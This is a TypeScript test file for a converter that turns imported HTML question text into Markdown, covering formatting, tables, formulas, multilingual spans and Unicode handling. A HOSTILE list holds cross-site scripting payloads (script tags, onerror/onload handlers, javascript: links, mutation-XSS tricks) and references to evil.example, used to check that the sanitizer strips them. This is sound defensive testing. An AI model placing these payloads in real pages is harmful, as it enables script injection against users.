import fc from 'fast-check'
import { expect, it } from 'vitest'
import { renderMarkdown } from '../../content/library/index.ts'
import { QuestionError } from '../question.ts'
import { fromHtml } from './html.ts'
import { fromMarkdown, fromPlain } from './rich-text.ts'

const convert = (html: string, language: 'en' | 'bn' = 'en') => {
  const lost: string[] = []
  const text = fromHtml(html, {
    language,
    findPicture: (source) => (source.startsWith('@@PLUGINFILE@@/') ? 'picture-1' : null),
    onLost: (element) => lost.push(element),
  })
  return { ...text, lost }
}

it.each<[string, string, string]>([
  ['paragraphs and line breaks', '<p>One</p><div>Two<br>Three</div>', 'One\n\nTwo\n\nThree'],
  ['bold and italic words', '<p>a <b>big</b> and <i>small</i> dog</p>', 'a **big** and *small* dog'],
  ['spaces inside of bold text', '<p>a<b> big </b>dog</p>', 'a **big** dog'],
  ['bold parts of a word', '<p>un<b>do</b>ne, 2<b>3</b></p>', 'undone, 23'],
  ['bold inside of italics', '<p><i>a <b>big</b> dog</i></p>', '*a **big** dog*'],
  ['an empty bold text', '<p>a<b> </b>b</p>', 'a b'],
  [
    'lists',
    '<ul><li>red</li><li>blue</li></ul><ol><li>one</li><li>two</li></ol>',
    '- red\n- blue\n\n1. one\n2. two',
  ],
  [
    'a table',
    '<table><tr><td>a</td><td>b|c</td></tr><tr><td>1</td></tr></table>',
    '| a | b\\|c |\n| --- | --- |\n| 1 |  |',
  ],
  [
    'lines and paragraphs in a cell',
    '<table><tr><td><p>a</p><p>b</p></td><td>c<br>d</td></tr></table>',
    '| a b | c d |\n| --- | --- |',
  ],
  ['headings', '<h1>Big</h1><h4>Small</h4>', '## Big\n\n#### Small'],
  [
    'signs above and below',
    '<p>x<sup>2</sup>, H<sub>2</sub>O, 3<sup>rd</sup>, 90<sup>o</sup></p>',
    'x², H₂O, 3rd, 90°',
  ],
  [
    'formulas',
    String.raw`<p>\(a &lt; b\) and \[x^2\] and $$y$$, \(5\)5</p>`,
    String.raw`$a < b$ and $$x^2$$ and $$y$$, \(5\)5`,
  ],
  ['entities', '<p>5 &lt; 7 &amp; 8&nbsp;&gt; 2, &amp;lt;</p>', String.raw`5 \< 7 & 8 > 2, \&lt;`],
  [
    'lines that look like lists and rules',
    '<p>- 5</p><p>1. year</p><p># a</p><p>---</p><p>&gt; 3</p>',
    '\\- 5\n\n1\\. year\n\n\\# a\n\n\\---\n\n\\> 3',
  ],
  ['a single dollar', '<p>It costs $5 or $6.</p>', String.raw`It costs \$5 or \$6.`],
  [
    'lines of a program',
    '<pre>for i in 1..3:\n  print(i)<br># sum\n\n---\n```</pre>',
    "```\nfor i in 1..3:\n  print(i)\n # sum\n\n ---\n'''\n```",
  ],
  [
    'a picture',
    '<p>See <img src="@@PLUGINFILE@@/a.png" alt="A [red] kite"> here</p>',
    'See\n\n![A red kite](picture-1)\n\nhere',
  ],
])('HTML with %s is the library’s Markdown', (_, html, markdown) => {
  expect(convert(html).markdown).toBe(markdown)
})

const HOSTILE = [
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p onclick="alert(1)" style="background:url(//evil.example)">x</p>',
  '<img src="x" onerror="alert(1)">',
  '<img src="javascript:alert(1)">',
  '<svg onload="alert(1)"><script>alert(1)</script></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>@import "//evil.example/x.css"</style>',
  '<object data="//evil.example"></object><embed src="//evil.example">',
  '<form action="//evil.example"><input name="a"><button>go</button></form>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<meta http-equiv="refresh" content="0;url=//evil.example"><base href="//evil.example">',
  '<!--><img src=x onerror=alert(1)>-->',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p>[x](javascript:alert(1)) ![x](//evil.example/a.png) &lt;img src=x onerror=alert(1)&gt;</p>',
]

/** The HTML of a text that the library shows, and what it finds wrong. */
function rendered(markdown: string): { readonly shown: string; readonly errors: readonly string[] } {
  const errors: string[] = []
  const shown = renderMarkdown({
    text: markdown,
    line: 1,
    field: 'statement.en',
    report: (_line, _field, message) => errors.push(message),
    findPicture: () => null,
  })
  return { shown, errors }
}

it('of the hostile texts those with links in words are refused, and nearly all others are taken', () => {
  const refused = HOSTILE.filter((html) => rendered(convert(html).markdown).errors.length > 0)
  expect(refused).toContain(HOSTILE.at(-1))
  expect(refused.length).toBeLessThanOrEqual(4)
})

it.each(HOSTILE)('no script, address or handler passes in %s', { tags: ['attack-297'] }, (html) => {
  const { shown, errors } = rendered(convert(html).markdown)
  // A text with an error is refused.
  if (errors.length > 0) return
  expect(shown).not.toMatch(/<(?:script|img|a|iframe|svg|style|form|input|meta|base|object|embed)\b/i)
  expect(shown).not.toMatch(/<[^>]*\bon\w+=/i)
  expect(shown.replaceAll(/&lt;.*?&gt;/g, '')).not.toMatch(/<[^>]*evil/)
})

it('elements that are left out are named', () => {
  expect(
    convert('<p>a<script>1</script><video src="a"></video></p><a href="https://x.example">b</a>').lost,
  ).toEqual(expect.arrayContaining(['script', 'video', 'a']))
})

it.each<[string, string, string]>([
  ['merged cells', '<table><tr><td colspan="2">a</td></tr></table>', 'merged cells'],
  ['MathML', '<math><mi>x</mi></math>', 'MathML'],
  ['a superscript without a sign', '<p>2<sup>x+y</sup></p>', 'superscript'],
  ['markup that is too deep', '<div>'.repeat(2_000), 'nested more than 100 deep'],
  [
    'marks that begin again in each paragraph',
    `<p>${Array.from({ length: 90 }, (_, index) => `<b x${index}>`).join('')}${'<p>x'.repeat(2_500)}`,
    'too many elements',
  ],
  ['more formulas than a text has', String.raw`\(`.repeat(1_001), 'too many formulas'],
  ['a text that is too long', 'x'.repeat(20_001), 'longer than'],
])('HTML with %s is refused', (_, html, reason) => {
  expect(() => convert(html)).toThrow(QuestionError)
  expect(() => convert(html)).toThrow(reason)
})

it('of a text in several languages the one that is asked for is taken', () => {
  const spans =
    '<span class="multilang" lang="en">Ten</span><span lang="bn" class="multilang">দশ</span><span class="multilang" lang="de">Zehn</span> 10'
  expect(convert(spans, 'en').markdown).toBe('Ten 10')
  expect(convert(spans, 'bn').markdown).toBe('দশ 10')
  expect(convert('{mlang en}Ten{mlang}{mlang bn}দশ{mlang}', 'bn').markdown).toBe('দশ')
})

it('marks of direction and invisible spaces are left out, and the joiners of Bangla stay', () => {
  expect(convert('<p>a&#x202E;b&#x2066;c&#x200B;d</p>').markdown).toBe('abcd')
  expect(fromPlain('a\u202Eb\u200Ec').plain).toBe('abc')
  expect(fromMarkdown(' a\u202Eb ').markdown).toBe('ab')
  expect(fromPlain('র\u200D্য').plain).toBe('র\u200D্য')
})

/** The text that a pupil reads of Markdown, and the errors of its rendering. */
const show = (markdown: string): { text: string; errors: readonly string[] } => {
  const { shown, errors } = rendered(markdown)
  const text = shown
    .replaceAll(/<[^>]*>/g, '')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&quot;', '"')
    .replaceAll('&amp;', '&')
    .replaceAll(/[\u2060\u00a0\s]+/g, ' ')
  return { text: text.trim(), errors }
}

it('every text that is taken is shown with each of its signs, or its problem is refused', () => {
  const signs = 'a b 5 12 * _ # - + > < $ ^ | ~ ` [ ] ( ) ! & = . &lt; --- ** 1. ক'.split(' ')
  const piece = fc.constantFrom(' ', ' ', ...signs)
  let taken = 0
  fc.assert(
    fc.property(fc.array(piece, { minLength: 1, maxLength: 12 }), (pieces) => {
      const text = pieces.join('').replaceAll(/\s+/g, ' ').trim()
      // Two dollars and what stands between two more are a formula.
      fc.pre(text !== '' && !text.includes('$$'))
      const { text: shown, errors } = show(fromPlain(text).markdown)
      if (errors.length > 0) return
      taken++
      expect(shown).toBe(text)
    }),
    { numRuns: 500 },
  )
  expect(taken).toBeGreaterThan(100)
})
